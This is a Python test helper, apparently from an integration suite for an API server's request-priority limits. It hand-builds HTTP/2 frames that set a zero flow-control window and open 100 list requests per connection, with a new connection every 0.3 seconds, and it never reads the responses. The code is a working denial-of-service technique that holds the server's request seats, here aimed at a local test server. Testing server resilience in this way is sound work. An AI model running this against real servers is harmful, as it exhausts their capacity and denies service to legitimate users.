"""Asks an API server for lists over HTTP/2 and does not read them.

With an initial window of 0 the server may send no byte of a list (RFC 9113, 6.9.2). The request keeps its seat of the
server's priority level, and costs the attacker neither memory nor processor time.
"""

from __future__ import annotations

import socket
import ssl
import struct
from contextlib import ExitStack, contextmanager
from typing import TYPE_CHECKING, Final

from tests.background import running

if TYPE_CHECKING:
    import threading
    from collections.abc import Iterator

    from tests.integration.control_plane import ControlPlane

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, SETTINGS = 1, 4
WHOLE_REQUEST: Final = 5
"""The flags END_STREAM and END_HEADERS."""
INITIAL_WINDOW: Final = 4
STREAMS: Final = 100
"""So many requests at a time an API server takes on one connection."""
PAUSE: Final = 0.3
"""Seconds between two connections."""


@contextmanager
def unread_lists(plane: ControlPlane, token: str, path: str) -> Iterator[None]:
    """Ask for the list at `path` more and more often, until the block ends: STREAMS times on each new connection.

    The server refuses what finds no place in a queue, and lends the priority level more seats every ten seconds.
    """
    tls = ssl.create_default_context(cafile=str(plane.ca))
    tls.set_alpn_protocols(["h2"])
    with ExitStack() as stack:

        def ask(ended: threading.Event) -> None:
            while not ended.is_set():
                plain = socket.create_connection(("127.0.0.1", plane.port))
                connection = stack.enter_context(tls.wrap_socket(plain, server_hostname="localhost"))
                connection.sendall(_requests(token, path))
                ended.wait(PAUSE)

        with running(ask):
            yield


def _requests(token: str, path: str) -> bytes:
    fields = {":method": "GET", ":scheme": "https", ":authority": "localhost", ":path": path}
    block = b"".join(_field(*each) for each in (*fields.items(), ("authorization", f"Bearer {token}")))
    # A client's streams have odd numbers.
    requests = (_frame(HEADERS, WHOLE_REQUEST, 2 * number + 1, block) for number in range(STREAMS))
    return PREFACE + _frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 0)) + b"".join(requests)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    # The length has 24 bits.
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _field(name: str, value: str) -> bytes:
    """Return a header field as HPACK has it without a table (RFC 7541, 6.2.2)."""
    return b"\0" + _string(name.encode()) + _string(value.encode())


def _string(text: bytes) -> bytes:
    """Return a string literal without Huffman coding (RFC 7541, 5.1 and 5.2)."""
    if len(text) < 127:
        return bytes((len(text),)) + text
    left, length = len(text) - 127, bytearray((127,))
    while left >= 128:
        length.append(left % 128 + 128)
        left //= 128
    return bytes((*length, left)) + text
